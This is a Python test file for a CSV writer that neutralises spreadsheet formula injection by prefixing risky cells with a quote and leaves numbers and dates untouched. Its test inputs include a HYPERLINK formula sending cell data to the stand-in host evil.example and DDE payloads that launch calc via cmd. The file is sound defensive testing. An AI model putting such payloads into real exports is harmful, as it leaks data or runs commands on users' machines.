"""The one CSV writer: text that a spreadsheet would run as a formula is neutralised,
numbers and dates are written as they are."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from champion.core.csv import cell, write_csv


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-3+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "- a bullet someone typed",
    ],
)
def test_text_starting_like_a_formula_gets_a_leading_quote(text):
    assert cell(text) == "'" + text
    assert read(write_csv(["h"], [[text]]))[1] == ["'" + text]


@pytest.mark.parametrize("text", ["Ward A", "a=b", "e-mail", "2024-01-01", " =1", "", "'quoted"])
def test_other_text_is_kept_as_it_is(text):
    assert cell(text) == text


@pytest.mark.parametrize("number", [-3, -0.25, 0, 7, 2.5, Decimal("-1.50"), True])
def test_real_numbers_are_never_escaped(number):
    assert cell(number) == number
    assert read(write_csv(["n"], [[number]]))[1] == [str(number)]


@pytest.mark.parametrize("text", ["-3", "+2", "-0.25", "+2.5", "-.5", "12"])
def test_text_that_is_only_a_plain_number_stays_a_number(text):
    assert cell(text) == text


def test_none_is_an_empty_cell_and_dates_are_iso():
    row = [None, dt.date(2024, 1, 31), dt.datetime(2024, 1, 31, 9, 5, tzinfo=dt.UTC)]
    assert read(write_csv(["a", "b", "c"], [row]))[1] == [
        "",
        "2024-01-31",
        "2024-01-31T09:05:00+00:00",
    ]


def test_header_is_escaped_too_and_commas_and_quotes_round_trip():
    text = write_csv(["=evil", "name"], [['Smith, "Jo"', "-1"]])
    assert read(text) == [["'=evil", "name"], ['Smith, "Jo"', "-1"]]
